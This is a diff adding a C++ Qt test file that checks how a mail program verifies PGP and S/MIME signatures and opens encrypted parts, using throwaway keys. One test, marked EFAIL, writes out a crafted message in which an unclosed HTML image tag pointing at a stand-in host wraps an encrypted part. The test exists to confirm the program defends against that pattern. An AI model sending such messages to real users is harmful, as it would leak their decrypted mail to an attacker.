@@ -1,0 +1,207 @@
+// SPDX-FileCopyrightText: Restante contributors
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "message_file.h"
+
+#include <QProcess>
+#include <QTemporaryDir>
+#include <QTest>
+
+using mail::Protection;
+using mailtest::MessageFile;
+using mailtest::onTheWire;
+using Kind = Protection::Kind;
+using State = Protection::State;
+
+namespace {
+
+/// Runs a program of GnuPG with its keys in this test's own folder.
+QByteArray run(const QString& program, const QStringList& arguments, const QByteArray& input)
+{
+    QProcess process;
+    process.start(program, arguments);
+    process.write(input);
+    process.closeWriteChannel();
+    if (!process.waitForFinished(60'000) || process.exitCode() != 0)
+        qWarning("%s: %s", qPrintable(program), process.readAllStandardError().constData());
+    return process.readAllStandardOutput();
+}
+
+QByteArray gpg(const char* arguments, const QByteArray& input = {})
+{
+    const QStringList common{QStringLiteral("--batch"),
+                             QStringLiteral("--quiet"),
+                             QStringLiteral("--yes"),
+                             QStringLiteral("--pinentry-mode"),
+                             QStringLiteral("loopback"),
+                             QStringLiteral("--passphrase"),
+                             QString()};
+    return run(QStringLiteral("gpg"), common + QString::fromLatin1(arguments).split(u' '), input);
+}
+
+const QByteArray signedPart = "Content-Type: text/plain\r\n\r\nI owe you ten.\r\n-- \r\nAda";
+
+QByteArray pgpSigned(const QByteArray& part, const QByteArray& signature)
+{
+    return "Subject: s\r\nContent-Type: multipart/signed; micalg=pgp-sha256; "
+           "protocol=\"application/pgp-signature\"; "
+           "boundary=s\r\n\r\n--s\r\n" +
+           part + "\r\n--s\r\nContent-Type: application/pgp-signature; name=signature.asc\r\n\r\n" +
+           signature + "\r\n--s--\r\n";
+}
+
+QByteArray pgpEncrypted(const QByteArray& armored)
+{
+    return "Subject: s\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
+           "boundary=e\r\n\r\n--e\r\n"
+           "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: "
+           "application/octet-stream\r\n\r\n" +
+           armored + "\r\n--e--\r\n";
+}
+
+mail::Checked checked(const QByteArray& message, int index = 0)
+{
+    const MessageFile file(message);
+    return mail::checkProtection(file.path(), index).value_or(mail::Checked());
+}
+
+} // namespace
+
+/// With keys of its own, made here and thrown away.
+class ProtectionTest : public QObject {
+    Q_OBJECT
+
+private Q_SLOTS:
+    void initTestCase()
+    {
+        QVERIFY(home_.isValid());
+        qputenv("GNUPGHOME", QFile::encodeName(home_.path()));
+        gpg("--quick-gen-key ada@example.org ed25519 default never");
+        gpg("--quick-gen-key bob@example.org default default never");
+        QVERIFY(gpg("--list-secret-keys").contains("bob@example.org"));
+    }
+
+    void cleanupTestCase()
+    {
+        run(QStringLiteral("gpgconf"), {QStringLiteral("--kill"), QStringLiteral("all")}, {});
+    }
+
+    void readsWithoutStartingGnuPG()
+    {
+        const mail::Reading reading = mailtest::readingOf(pgpSigned(signedPart, "x"));
+        QCOMPARE(reading.protections.size(), 1);
+        QCOMPARE(reading.protections[0].kind, Kind::PgpSigned);
+        QCOMPARE(reading.protections[0].state, State::Unchecked);
+        QCOMPARE(reading.passages.value(0).protection, 0);
+    }
+
+    void verifiesASignature()
+    {
+        const QByteArray signature = gpg("-u ada@example.org --armor --detach-sign", signedPart);
+        const QByteArray message = pgpSigned(signedPart, signature);
+        const Protection right = checked(message).protection;
+        QCOMPARE(right.state, State::Valid);
+        QVERIFY(right.trusted);
+        QCOMPARE(right.signerAddress, QStringLiteral("ada@example.org"));
+        QVERIFY(right.time.isValid());
+        // Stored with LF alone, as archives of other programs do.
+        QCOMPARE(checked(QByteArray(message).replace("\r\n", "\n")).protection.state, State::Valid);
+        QCOMPARE(checked(QByteArray(message).replace("you ten", "you two")).protection.state, State::Invalid);
+        QCOMPARE(checked(pgpSigned(signedPart, "no signature")).protection.state, State::Invalid);
+    }
+
+    void saysWhenTheKeyIsNotThere()
+    {
+        const QByteArray signature = gpg("-u ada@example.org --armor --detach-sign", signedPart);
+        const QTemporaryDir empty;
+        qputenv("GNUPGHOME", QFile::encodeName(empty.path()));
+        const State state = checked(pgpSigned(signedPart, signature)).protection.state;
+        run(QStringLiteral("gpgconf"), {QStringLiteral("--kill"), QStringLiteral("all")}, {});
+        qputenv("GNUPGHOME", QFile::encodeName(home_.path()));
+        QCOMPARE(state, State::UnknownKey);
+    }
+
+    void opensWhatIsEncrypted()
+    {
+        const QByteArray inner =
+            "Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n\r\nthe secret\r\n--i\r\n"
+            "Content-Type: a/b; name=x\r\n\r\nfile\r\n--i--\r\n";
+        const QByteArray armored = gpg("-r bob@example.org --trust-model always --armor --encrypt", inner);
+        const QByteArray message = pgpEncrypted(armored);
+        const mail::Checked found = checked(message);
+        QCOMPARE(found.protection.kind, Kind::PgpEncrypted);
+        QCOMPARE(found.protection.state, State::Valid);
+        QVERIFY(found.inside);
+        QCOMPARE(found.inside->text, QStringLiteral("the secret"));
+        QCOMPARE(found.inside->attachments.size(), 1);
+        QVERIFY(!mailtest::readingOf(message).text.contains(QStringLiteral("secret")));
+        QVERIFY(!checked(pgpEncrypted("no message")).inside);
+        QCOMPARE(checked(pgpEncrypted("no message")).protection.state, State::Invalid);
+    }
+
+    /// EFAIL: what is around an encrypted part never becomes one text with what is inside.
+    void keepsPartsApart()
+    {
+        const QByteArray armored = gpg("-r bob@example.org --trust-model always --armor --encrypt",
+                                       "Content-Type: text/plain\r\n\r\nsecret");
+        QByteArray inner = pgpEncrypted(armored);
+        inner.remove(0, inner.indexOf("Content-Type"));
+        const QByteArray message =
+            "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n"
+            "<img src=\"http://evil.test/\r\n--m\r\n" +
+            inner + "\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n";
+        const mail::Reading reading = mailtest::readingOf(message);
+        QCOMPARE(reading.passages.size(), 2);
+        QCOMPARE(reading.passages[0].pages.size(), 1);
+        QCOMPARE(reading.protections.size(), 1);
+        const mail::Checked found = checked(message);
+        QVERIFY(found.inside);
+        QCOMPARE(found.inside->text, QStringLiteral("secret"));
+        QVERIFY(!found.inside->html);
+    }
+
+    void verifiesSmime()
+    {
+        const QTemporaryDir folder;
+        const QString key = folder.filePath(QStringLiteral("key.pem"));
+        const QString certificate = folder.filePath(QStringLiteral("cert.pem"));
+        run(QStringLiteral("openssl"),
+            {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"),
+             QStringLiteral("rsa:2048"), QStringLiteral("-nodes"), QStringLiteral("-days"),
+             QStringLiteral("30"), QStringLiteral("-keyout"), key, QStringLiteral("-out"), certificate,
+             QStringLiteral("-subj"), QStringLiteral("/CN=Ada/emailAddress=ada@example.org")},
+            {});
+        const QByteArray signature =
+            run(QStringLiteral("openssl"),
+                {QStringLiteral("cms"), QStringLiteral("-sign"), QStringLiteral("-binary"),
+                 QStringLiteral("-signer"), certificate, QStringLiteral("-inkey"), key,
+                 QStringLiteral("-outform"), QStringLiteral("DER")},
+                signedPart);
+        QVERIFY(!signature.isEmpty());
+        const auto message = [&](const QByteArray& part) {
+            return "Content-Type: multipart/signed; micalg=sha-256; "
+                   "protocol=\"application/pkcs7-signature\"; boundary=s\r\n\r\n--s\r\n" +
+                   part +
+                   "\r\n--s\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: "
+                   "base64\r\n\r\n" +
+                   signature.toBase64() + "\r\n--s--\r\n";
+        };
+        const Protection right = checked(message(signedPart)).protection;
+        QCOMPARE(right.kind, Kind::SmimeSigned);
+        QCOMPARE(right.state, State::Valid);
+        QVERIFY(!right.trusted); // nobody vouches for the certificate
+        QCOMPARE(checked(message(QByteArray(signedPart).replace("you ten", "you two"))).protection.state,
+                 State::Invalid);
+    }
+
+    void refusesWhatIsNotThere()
+    {
+        const MessageFile file("Subject: s\n\nhi\n");
+        QCOMPARE(mail::checkProtection(file.path(), 0).error().fault, base::Fault::NoSuchMessage);
+    }
+
+private:
+    QTemporaryDir home_{QStringLiteral("/tmp/restante-keys-XXXXXX")}; // short: sockets lie in it
+};
+
+QTEST_GUILESS_MAIN(ProtectionTest)
+#include "protection_test.moc"
